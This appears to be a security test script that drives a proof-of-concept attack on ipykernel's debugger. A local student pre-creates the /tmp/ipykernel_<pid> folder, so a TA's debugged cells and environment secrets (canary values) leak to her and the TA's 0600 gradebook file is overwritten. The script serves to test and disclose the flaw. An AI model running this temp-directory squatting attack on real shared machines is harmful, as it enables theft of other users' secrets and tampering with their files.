"""a06: ipykernel's debugger writes the cells the TA debugs into /tmp/ipykernel_<kernel pid>/ (made 0700 only if
missing; files opened with open(path, 'w'), following links). A local student makes that folder first."""
import os, subprocess, time
home = "/tmp/attack52-user-home"
for f in ("a06_go", "a06_done", "a06_kernel_pid"):
    try: os.unlink(f"{home}/{f}")
    except FileNotFoundError: pass
victim = f"{home}/ta_victim_gradebook.db"
open(victim, "w").write("SQLite format 3 ... the TA's precious file\n"); os.chown(victim, 65534, 65534); os.chmod(victim, 0o600)
env = dict(os.environ, HOME=home, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
ta = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "sh", "-c", "umask 022; exec CLONE/.venv/bin/python tests/attacks/round52/user/a06_ta_debug_dump.py"],
                      cwd=(__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))), env=env)
while not os.path.exists(f"{home}/a06_kernel_pid"): time.sleep(0.2)
pid = open(f"{home}/a06_kernel_pid").read()
print("TA kernel pid (as ps shows it):", pid, flush=True)
stu = ["setpriv", "--reuid", "1001", "--regid", "1001", "--clear-groups", "CLONE/.venv/bin/python", "tests/attacks/round52/user/a06_student_squat.py", pid, victim]
print(subprocess.run(stu + ["plant"], capture_output=True, text=True, cwd="/").stdout, flush=True)
open(f"{home}/a06_go", "w").write("1")
while not os.path.exists(f"{home}/a06_done") and ta.poll() is None: time.sleep(0.2)
r = subprocess.run(stu + ["read"], capture_output=True, text=True, cwd="/")
print("STUDENT reads her folder:\n" + r.stdout + r.stderr[-1000:], flush=True)
print("the TA's 0600 file now holds:", repr(open(victim).read()[:200]))
ta.wait(timeout=60)
subprocess.run(["rm", "-rf", f"/tmp/ipykernel_{pid}"])
